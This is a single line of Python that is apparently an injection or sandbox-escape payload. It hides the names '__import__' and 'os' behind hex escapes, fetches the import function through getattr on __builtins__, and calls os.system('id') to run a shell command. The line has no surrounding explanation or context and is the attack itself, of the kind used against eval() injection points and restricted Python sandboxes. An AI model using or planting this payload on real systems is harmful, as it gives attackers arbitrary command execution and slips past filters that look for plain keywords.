getattr(__builtins__, "\x5f\x5fimport\x5f\x5f")("\x6f\x73").system("id")
